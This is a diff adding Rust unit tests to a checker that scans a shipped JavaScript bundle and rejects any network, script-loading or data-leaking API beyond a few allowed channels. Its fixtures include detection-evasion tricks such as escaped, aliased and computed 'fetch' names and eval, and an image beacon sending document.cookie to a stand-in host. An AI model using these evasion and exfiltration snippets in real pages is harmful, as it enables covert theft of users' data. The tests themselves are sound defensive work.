@@ -1631,3 +1631,224 @@ pub fn check_tag(tag: &str, site: &Site, report: &mut Report) {
         report.channel(ChannelKind::CatalogImage, site, "createElement('img')");
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use oxc_allocator::Allocator;
+
+    /// The violations (API names) and channels of `code` as the top level of `attune.js`,
+    /// in a bundle of `attune.js`, `pkg/x.js` and `pkg/x_bg.wasm`.
+    fn judge(code: &str, mode: Mode) -> (Vec<String>, Vec<ChannelKind>, Generic) {
+        let arena = Allocator::default();
+        let js = super::super::js::parse(&arena, code);
+        assert!(js.errors.is_empty(), "{code}: {:?}", js.errors);
+        let shipped_js = BTreeSet::from([PathBuf::from("attune.js"), PathBuf::from("pkg/x.js")]);
+        let shipped_wasm = BTreeSet::from([PathBuf::from("pkg/x_bg.wasm")]);
+        let shipped = Shipped { js: &shipped_js, wasm: &shipped_wasm };
+        let strings: BTreeSet<String> = js.literals().into_iter().map(|(s, _)| s).collect();
+        let mut report = Report::default();
+        let mut generic = Generic::default();
+        let mut c = Checker::new(&js, "attune.js", Path::new("attune.js"), &shipped, mode, &mut report, &mut generic, &strings);
+        match mode {
+            Mode::TopLevel => c.visit_program(js.program),
+            Mode::Import(_) => {
+                c.skip_entries = false;
+                c.visit_program(js.program)
+            }
+        }
+        (
+            report.violations.iter().map(|v| v.api.clone()).collect(),
+            report.channels.iter().map(|c| c.kind).collect(),
+            generic,
+        )
+    }
+
+    fn fails(code: &str, api: &str) {
+        let (v, _, _) = judge(code, Mode::TopLevel);
+        assert!(v.iter().any(|x| x.contains(api)), "{code}: want {api:?}, got {v:?}");
+    }
+
+    fn passes(code: &str) -> Vec<ChannelKind> {
+        let (v, c, _) = judge(code, Mode::TopLevel);
+        assert!(v.is_empty(), "{code}: {v:?}");
+        c
+    }
+
+    #[test]
+    fn the_allowed_channels() {
+        let d = "const ds = document.querySelector('script[data-model]').dataset;";
+        let c = passes(&format!("{d} fetch(new URL(ds.model, document.baseURI), {{ integrity: 'x' }});"));
+        assert_eq!(c, [ChannelKind::Model]);
+        // Shards under the model's directory; the attribute itself; getAttribute.
+        for url in [
+            "new URL('shard-1.bin', new URL(ds.model, document.baseURI))",
+            "new URL(`shard-${i}.bin`, new URL('.', new URL(ds.model, document.baseURI)))",
+            "ds.model",
+            "document.currentScript.getAttribute('data-model')",
+        ] {
+            assert_eq!(passes(&format!("{d} let i = 1; fetch({url});")), [ChannelKind::Model], "{url}");
+        }
+        assert_eq!(passes("fetch(new URL('./pkg/x_bg.wasm', import.meta.url));"), [ChannelKind::OwnWasm]);
+        assert_eq!(passes("import('./pkg/x.js');"), [ChannelKind::OwnModule]);
+        assert_eq!(passes("import x from './pkg/x.js'; x();"), [ChannelKind::OwnModule]);
+        assert_eq!(passes("const a = document.createElement('a'); a.href = '/p';"), [ChannelKind::Link]);
+        assert_eq!(passes("a.href = URL.createObjectURL(blob);"), [ChannelKind::Link]);
+        assert_eq!(
+            passes("const m = await import('./pkg/x.js'); const w = s && fetch(new URL('./pkg/x_bg.wasm', import.meta.url)); await m.default(w ? { module_or_path: w } : undefined);"),
+            [ChannelKind::OwnModule, ChannelKind::OwnWasm]
+        );
+    }
+
+    #[test]
+    fn harmless_code_passes() {
+        for code in [
+            "if (typeof fetch === 'function') console.log(1);",
+            "const w = window; w.localStorage.getItem('attune:v1'); w.addEventListener('x', () => {});",
+            "for (const s of ['localStorage', 'sessionStorage']) window[s].removeItem('k');",
+            "const el = document.createElement(x ? 'span' : 'div'); el.textContent = 'hi';",
+            "function node(tag) { return document.createElement(tag); } node('p'); node('button');",
+            "const cfg = {}; if (key === 'perPage' || key === 'perSession') cfg[key] = v;",
+            "const h = (id) => String(id.length % 360); el.style.setProperty('--hue', h(id));",
+            "const calls = []; calls.push(['track', 1]); for (const [n, a] of calls.splice(0)) widget[n](a);",
+            "const f = fetch; if (f instanceof Function) {}",
+            "class X extends HTMLElement { connectedCallback() { this.attachShadow({ mode: 'open' }); } } customElements.define('x-y', X);",
+            "setTimeout(() => console.log(1), 10); setTimeout(tick, 1); function tick() {}",
+            "const o = Object.prototype.hasOwnProperty.call(cfg, 'k');",
+            "new URL(location.href).searchParams.get('q');",
+            "mem[ptr + 1] = 2;",
+        ] {
+            passes(code);
+        }
+    }
+
+    #[test]
+    fn parsing_is_the_parsers_job() {
+        fails(";(function(){var ok=1,s=\"x\";if(ok)/'/.test(s);fetch('https://c.example/a?'+s);})();", "fetch");
+        fails("f\\u0065tch('https://c.example/');", "fetch");
+        fails("window['f\\x65tch']('https://c.example/');", "fetch");
+        // Not code: strings, comments, regexes, templates text.
+        passes("const s = 'fetch(1)'; // fetch('x')\n/fetch\\(/.test(s); `fetch ${1}`;");
+    }
+
+    #[test]
+    fn aliases_and_escapes() {
+        fails("const w = globalThis; w.fetch('https://c.example/');", "fetch");
+        fails("const { fetch: f } = self; f('https://c.example/');", "fetch");
+        fails("let g; g = window; const h = g; h.fetch('https://c.example/');", "fetch");
+        fails("function send(x) { x('https://c.example/'); } send(fetch);", "fetch");
+        fails("el.ownerDocument.defaultView.fetch('https://c.example/');", "fetch");
+        fails("const b = fetch.bind(window); b('https://c.example/');", "fetch");
+        fails("fetch.call(window, 'https://c.example/');", "fetch.call");
+        fails("Reflect.apply(fetch, window, ['https://c.example/']);", "passed to a function");
+        fails("foo(window);", "the global object");
+        fails("const o = { d: document };", "stored in an object");
+        fails("export const leak = fetch;", "exported");
+        fails("[navigator][0].sendBeacon('/b');", "sendBeacon");
+        fails("(0, fetch)('https://c.example/');", "fetch");
+        fails("fetch`https://c.example/`;", "tagged template");
+    }
+
+    #[test]
+    fn computed_names() {
+        fails("const k = 'fe' + 'tch'; window[k]('https://c.example/');", "computed property of a global");
+        fails("const k = 'fe' + 'tch'; const f = window[k]; f('https://c.example/');", "fetch");
+        fails("window[location.hash]('x');", "computed property of a global");
+        fails("const n = a ? 'fetch' : 'open'; window[n]('x');", "computed property of a global");
+        fails("Reflect.get(window, 'fetch')('x');", "Reflect.get");
+        fails("const e = document.createElement('a'); e[k] = 'x'; const s = 'href';", "[\"href\"] = …");
+        fails("obj[k](1); const n = 'open';", "[\"open\"](…)");
+    }
+
+    #[test]
+    fn string_evaluation() {
+        fails("eval('1');", "eval");
+        fails("(0, eval)('1');", "eval");
+        fails("new Function('return 1')();", "Function constructor");
+        fails("setTimeout('go()', 1);", "setTimeout");
+        fails("setInterval(code, 1);", "setInterval");
+    }
+
+    #[test]
+    fn network_apis() {
+        for (code, api) in [
+            ("new XMLHttpRequest();", "XMLHttpRequest"),
+            ("new WebSocket('wss://c.example');", "WebSocket"),
+            ("new EventSource('/s');", "EventSource"),
+            ("navigator.sendBeacon('/b', 1);", "sendBeacon"),
+            ("const { sendBeacon } = navigator;", "sendBeacon"),
+            ("new RTCPeerConnection();", "RTCPeerConnection"),
+            ("new WebTransport('https://c.example');", "WebTransport"),
+            ("new Worker('/w.js');", "Worker"),
+            ("new SharedWorker('/w.js');", "SharedWorker"),
+            ("navigator.serviceWorker.register('/sw.js');", "serviceWorker"),
+            ("importScripts('/a.js');", "importScripts"),
+            ("import('https://c.example/m.js');", "import()"),
+            ("import(spec);", "import()"),
+            ("import x from 'https://c.example/m.js';", "import"),
+            ("window.open('https://c.example');", "window.open"),
+            ("location = '/x';", "location (write)"),
+            ("location.href = '/x';", "location.href"),
+            ("top.location = '/x';", "location (write)"),
+            ("window.location.assign('/x');", "location.assign"),
+            ("document.querySelector('form').submit();", "form.submit"),
+            ("postMessage(1, '*');", "postMessage"),
+            ("document.cookie = 'a=1';", "document.cookie"),
+            ("new Image().src = '/p.gif';", "new Image()"),
+            ("new Audio('/a.mp3');", "new Audio()"),
+        ] {
+            fails(code, api);
+        }
+    }
+
+    #[test]
+    fn fetches_other_than_the_channels() {
+        fails("fetch('https://c.example/');", "fetch");
+        fails("fetch(new URL(d.dataset.model, 'https://c.example/'));", "fetch");
+        fails("fetch(new URL('https://c.example/?' + x, new URL(d.dataset.model, document.baseURI)));", "fetch");
+        fails("fetch(d.dataset.model, { method: 'POST', body: x });", "fetch");
+        fails("fetch(d.dataset.model, opts);", "fetch");
+        fails("fetch('./pkg/other.wasm');", "fetch");
+        fails("const m = await import('./pkg/x.js'); m.default('https://c.example/x.wasm');", "glue init");
+    }
+
+    #[test]
+    fn elements_attributes_markup_and_css() {
+        fails("document.createElement('img').src = 'https://c.example/p?' + document.cookie;", "src = …");
+        fails("img.setAttribute('src', '/p?' + data);", "src = …");
+        fails("a.href = '/p?' + data;", "href = …");
+        for tag in ["script", "iframe", "link", "form", "object", "embed", "video", "audio", "source"] {
+            fails(&format!("document.createElement('{tag}');"), &format!("createElement('{tag}')"));
+        }
+        fails("document.createElementNS(ns, 'script');", "createElement('script')");
+        fails("el.setAttribute('ping', '/p');", "setAttribute('ping')");
+        fails("el.setAttribute('onclick', 'x()');", "setAttribute('onclick')");
+        fails("el.setAttribute(name, v); const s = 'srcset';", "setAttribute(\"srcset\", …)");
+        fails("el.createElement(t); const s = 'iframe';", "createElement(\"iframe\")");
+        fails("el.poster = '/p.png';", ".poster =");
+        fails("el.srcset = '/a 1x';", ".srcset =");
+        fails("el.innerHTML = '<b>';", "innerHTML");
+        fails("el.insertAdjacentHTML('beforeend', x);", "insertAdjacentHTML");
+        fails("document.write('<b>');", "document.write");
+        fails("el.style.background = 'url(/x)';", "CSS url(");
+        fails("el.style.cssText = 'background:' + 'ur' + 'l(/x)';", "CSS url(");
+        fails("sheet.replaceSync(location.hash);", "CSS from data");
+        fails("el.style.setProperty('background', v);", "CSS from data");
+        fails("with (window) { x(); }", "with");
+    }
+
+    #[test]
+    fn glue_functions_reached_from_the_wasm_are_generic() {
+        let (v, _, g) = judge("function f(arg0, arg1, arg2) { arg0.setAttribute(getStringFromWasm0(arg1, arg2), 'x'); arg0.createElement(getStringFromWasm0(arg1, arg2)); Reflect.get(arg0, arg1); Reflect.set(arg0, arg1, arg2); arg0.call(arg1); const r = typeof window === 'undefined' ? null : window; }", Mode::Import("__wbg_x"));
+        assert!(v.is_empty(), "{v:?}");
+        assert_eq!(
+            (g.set_attribute.len(), g.create_element.len(), g.reflect_get.len(), g.reflect_set.len(), g.call.len()),
+            (1, 1, 1, 1, 1)
+        );
+        assert!(!g.global.is_empty());
+        let (v, _, _) = judge("function f(arg0, arg1, arg2) { return arg0.fetch(getStringFromWasm0(arg1, arg2)); }", Mode::Import("__wbg_x"));
+        assert_eq!(v, ["fetch"]);
+        let (v, _, _) = judge("function f(arg0, arg1) { return arg0.setTimeout(arg1, 1); }", Mode::Import("__wbg_x"));
+        assert_eq!(v, ["setTimeout"]);
+    }
+}
